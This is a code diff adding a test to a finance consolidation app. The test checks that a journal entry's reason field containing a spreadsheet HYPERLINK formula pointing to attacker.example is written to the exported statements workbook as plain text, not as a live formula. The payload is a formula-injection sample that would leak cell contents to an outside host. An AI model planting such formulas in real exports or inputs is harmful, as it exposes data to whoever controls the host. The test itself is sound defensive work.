@@ -440,3 +440,28 @@ async def test_the_statements_workbook(
         refused.json()["problems"][0]
         == "DE has no approved statements for 2024: consolidation runs on approved data only"
     )
+
+
+async def test_a_journal_reason_stays_text_in_the_statements_workbook(
+    client80: AsyncTestClient[Any], worked: dict[str, str]
+) -> None:
+    reason = '=HYPERLINK("http://attacker.example/?"&A1,"details")'
+    entry = {
+        "period": "2024",
+        "reason": reason,
+        "lines": [
+            {"line": "IS.PEC", "amount": "1000", "entity": "BE"},
+            {"line": "BS.L.DE.IX.C", "amount": "-1000", "entity": "BE"},
+        ],
+    }
+    data(await gql(client80, worked["finance"], JOURNAL, input=entry))
+    response = await client80.get(
+        "/api/consolidation/2024/statements.xlsx",
+        params={"entities": ["BE", "SE"]},
+        headers={"Authorization": f"Bearer {worked['finance']}"},
+    )
+    assert response.status_code == 200
+    adjustments = load_workbook(io.BytesIO(response.content))["Adjustments"]
+    cells = [cell for row in adjustments.iter_rows() for cell in row if cell.value == reason]
+    assert cells
+    assert {cell.data_type for cell in cells} == {"s"}
